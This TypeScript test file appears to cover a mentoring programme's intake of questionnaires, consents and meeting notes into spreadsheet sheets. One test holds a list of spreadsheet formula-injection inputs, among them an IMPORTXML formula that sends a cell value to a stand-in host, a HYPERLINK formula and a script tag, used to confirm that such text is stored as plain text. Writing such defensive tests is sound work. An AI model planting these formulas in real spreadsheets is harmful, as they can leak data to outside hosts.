/** What a respondent's answer becomes: one row in a bank, one row in «Разобрать», or nothing new. Through the bundle. */

import { keptPairs } from '../bundle-runs/kept-organisations';
import { keptOrganisation, Organisation } from '../bundle-runs/organisation';
import { pupil, pupilConsent, student, studentConsent } from '../bundle-runs/people';

let organisation: Organisation;
beforeEach(async () => {
  organisation = Organisation.open(await keptOrganisation());
});
afterEach(() => organisation.close());

test('a questionnaire and a consent become one row of the bank, moved there by the consent', async () => {
  await organisation.submit('mentee', pupil(1));
  await organisation.hear();
  expect(organisation.rows('mentees')).toEqual([]);
  expect(organisation.column('attention', 'problems')).toEqual([expect.stringContaining('Нет согласия')]);
  await organisation.submit('consent', pupilConsent(1));
  await organisation.hear();
  expect(organisation.rows('attention')).toEqual([]);
  expect(organisation.rows('mentees')).toEqual([
    expect.objectContaining({ number: 'Н-0001', name: pupil(1).name, state: 'В базе', requests: 'робототехника' }),
  ]);
});

test('a consent that comes before its questionnaire is waiting for it', async () => {
  await organisation.submit('consent', studentConsent(1));
  await organisation.hear();
  expect(organisation.column('consents', 'concerns')).toEqual(['']);
  await organisation.submit('mentor', student(1));
  await organisation.hear();
  expect(organisation.column('mentors', 'name')).toEqual([student(1).name]);
  expect(organisation.column('consents', 'concerns')).toEqual(['М-0001']);
});

test('a second answer of the same person amends the first, under the same number, and the journal says so', async () => {
  await organisation.submit('mentee', pupil(1));
  await organisation.submit('consent', pupilConsent(1));
  await organisation.hear();
  await organisation.submit('mentee', pupil(1, { requests: ['музыка'], phone: '8 (913) 101-00-11' }));
  await organisation.hear();
  expect(organisation.rows('mentees')).toEqual([expect.objectContaining({ number: 'Н-0001', requests: 'музыка' })]);
  expect(organisation.rows('journal')).toContainEqual(
    expect.objectContaining({ about: 'Н-0001', what: 'Ответ дополнен' }),
  );
});

test('a consent withheld later takes the person out of the bank, and a consent given again brings them back', async () => {
  await organisation.submit('mentee', pupil(1));
  for (const [decision, inBank] of [
    ['Да', 1],
    ['Нет', 0],
    ['Да', 1],
  ] as const) {
    await organisation.submit('consent', pupilConsent(1, { decision }));
    await organisation.hear();
    expect(organisation.rows('mentees')).toHaveLength(inBank);
    expect(organisation.rows('attention')).toHaveLength(1 - inBank);
  }
});

/** Texts that a spreadsheet would take for formulas, numbers, dates, truths or mark-up. */
const HOSTILE = [
  '=IMPORTXML("http://example.test/"&A1,"//a")',
  '+7',
  '-1',
  '@SUM(A1:A9)',
  '1e5',
  '01.02',
  '1/2',
  '12:30',
  'TRUE',
  "'в кавычке",
  '<script>alert(1)</script><b>',
  '\t=1+1',
  '007',
  '50 %',
];

/** Every cell of every sheet that the product writes. */
function ownCells(): unknown[] {
  const answerTabs = organisation.sheets().filter(({ formId }) => formId !== null);
  return organisation
    .sheets()
    .filter((sheet) => !answerTabs.includes(sheet))
    .flatMap(({ values }) => values.flat());
}

test('hostile texts stay the texts that they are, in every sheet, through every way in', async () => {
  for (const [index, text] of HOSTILE.entries()) {
    await organisation.submit('mentee', pupil(index, { requestText: text, groupOrPost: text }), { delivery: 'lost' });
    if (index % 2 === 0) await organisation.submit('consent', pupilConsent(index), { delivery: 'lost' });
  }
  const name = '=HYPERLINK("http://example.test/","Анна")';
  await organisation.submit('mentee', pupil(40, { name, representative: '+Анна' }), { delivery: 'lost' });
  await organisation.submit('consent', { ...pupilConsent(40), participant: name, signer: '@Мария' });
  await organisation.ask('sweepNow');
  const shown = [...organisation.rows('mentees'), ...organisation.rows('attention')].map((row) => row.name);
  expect(shown).toContain(name);
  const inBank = organisation.rows('mentees').filter((row) => row.name !== name);
  const expected = HOSTILE.filter((_, index) => index % 2 === 0).map((text) => text.trim());
  expect(inBank.map((row) => String(row.requestText).trim()).sort()).toEqual([...expected].sort());
  expect(inBank.map((row) => String(row.groupOrPost).trim()).sort()).toEqual([...expected].sort());
  for (const row of inBank) expect([typeof row.requestText, typeof row.groupOrPost]).toEqual(['string', 'string']);
  expect(organisation.column('consents', 'signer')).toContain('@Мария');
  for (const { formulas } of organisation.sheets()) expect(formulas.flat().filter((text) => text !== '')).toEqual([]);

  await organisation.submit('consent', pupilConsent(1));
  await organisation.type('mentees', String(inBank[0]?.number), 'groupOrPost', "'=1+2");
  await organisation.ask('sweepNow');
  expect(ownCells()).toContain('=1+2');
  expect(organisation.column('mentees', 'requestText')).toContain('+7');
  for (const { formulas } of organisation.sheets()) expect(formulas.flat().filter((text) => text !== '')).toEqual([]);
});

test('words as long as a cell can be, signs of all alphabets and line breaks stop nobody’s intake', async () => {
  const long = `${'😀"\\\n'.repeat(9_990)}`;
  await organisation.submit(
    'mentee',
    pupil(1, { requestText: long, name: `Иванова ${'Анна '.repeat(9_000)}`, groupOrPost: 'я'.repeat(49_000) }),
  );
  await organisation.submit('mentee', pupil(2, { requestText: 'שלום عالم\u202Eмир', groupOrPost: '8\n«Б» 👩‍👩‍👧' }));
  await organisation.submit('consent', pupilConsent(2));
  await organisation.hear();
  expect(organisation.column('attention', 'number')).toEqual(['Н-0001']);
  const [row] = organisation.rows('mentees');
  expect(row).toMatchObject({ requestText: 'שלום عالم\u202Eмир', groupOrPost: '8\n«Б» 👩‍👩‍👧' });
  const [edit] = await organisation.type('mentees', 'Н-0002', 'results', long);
  expect(edit?.error).toBeNull();
  const results = String(organisation.rows('mentees')[0]?.results);
  expect([long.startsWith(results.slice(0, -1)), results.length > 5_000]).toEqual([true, true]);
  expect(await organisation.ask('sweepNow')).toEqual({ newAnswers: 0, revisedAnswers: 0, refusals: [] });
});

test('hostile texts of a meeting stay texts, and so do those in the journal', async () => {
  const paired = Organisation.open(await keptPairs());
  const [{ menteeToken }] = (await paired.ask<{ pairLinks: { menteeToken: string }[] }>('programmeSummary'))
    .pairLinks as [{ menteeToken: string }];
  const words = { topic: '=1+1', result: '+7', nextStep: '01.02' };
  await paired.submit('meeting', {
    pairToken: menteeToken,
    date: '2026-09-03',
    minutes: '45',
    mood: '9',
    trouble: 'Нет',
    ...words,
  });
  await paired.hear();
  expect(paired.rows('meetings')).toEqual([expect.objectContaining(words)]);
  for (const { formulas } of paired.sheets()) expect(formulas.flat().filter((text) => text !== '')).toEqual([]);
  await paired.close();
});

test('a second sweep changes nothing, whatever the first one has found', async () => {
  await organisation.submit('mentee', pupil(1));
  await organisation.submit('mentor', student(1));
  await organisation.submit('consent', pupilConsent(1));
  await organisation.ask('sweepNow');
  const before = JSON.stringify(organisation.sheets());
  expect(await organisation.ask('sweepNow')).toEqual({ newAnswers: 0, revisedAnswers: 0, refusals: [] });
  await organisation.hear();
  expect(JSON.stringify(organisation.sheets())).toBe(before);
});
